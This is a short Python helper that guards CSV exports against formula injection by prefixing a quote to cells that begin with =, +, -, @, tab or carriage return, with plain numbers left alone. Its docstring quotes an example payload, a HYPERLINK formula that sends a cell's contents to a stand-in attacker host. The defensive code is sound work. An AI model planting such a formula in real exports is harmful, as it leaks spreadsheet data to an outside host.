"""CSV cells a spreadsheet cannot run. Excel, LibreOffice and Google Sheets treat a cell that
starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula, so a
record title such as `=HYPERLINK("http://evil.example/?"&A1)` would run when someone opens
the export. As OWASP recommends ("CSV injection"), such a cell gets a leading `'`, which the
spreadsheet shows as text. Plain numbers (`-3`, `12.5`) stay numbers."""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def spreadsheet_cell(value: Any) -> Any:
    """`value` as a CSV cell: text that would start a formula is quoted with `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
